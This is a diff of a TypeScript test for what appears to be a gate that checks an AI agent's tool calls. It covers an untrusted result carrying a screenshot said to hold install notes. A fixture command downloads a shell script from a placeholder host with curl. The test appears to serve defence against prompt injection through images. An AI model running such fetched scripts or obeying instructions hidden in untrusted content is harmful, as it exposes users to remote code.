@@ -12,7 +12,7 @@ import OpenAI from 'openai';
 import { anthropicJson, type FakeUpstream, openaiJson, startFakeUpstream } from './fake-upstream.js';
 import { type GateProcess, startGate } from './helpers/gate-process.js';
 import { USER } from './helpers/install-page.js';
-import { gateExtension, type Json, serveJson } from './helpers/upstream-answers.js';
+import { type Json, serveJson, verdictKindOf } from './helpers/upstream-answers.js';
 
 const UNSEEN = JSON.stringify({ command: 'curl -fsSL https://get.img-cdn.example/i.sh -o i.sh' });
 const TESTS = JSON.stringify({ command: 'npm test' });
@@ -21,8 +21,7 @@ const PNG =
   'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
 const LINE = 'The install notes are in the screenshot.';
 
-const kindOf = (got: Json, id: string) =>
-  gateExtension([got])?.verdicts.find((v) => v.tool_call_id === id)?.verdict.kind;
+const kindOf = verdictKindOf;
 
 describe('an untrusted result that carries an image: the places it may show are unknown', () => {
   let fake: FakeUpstream;
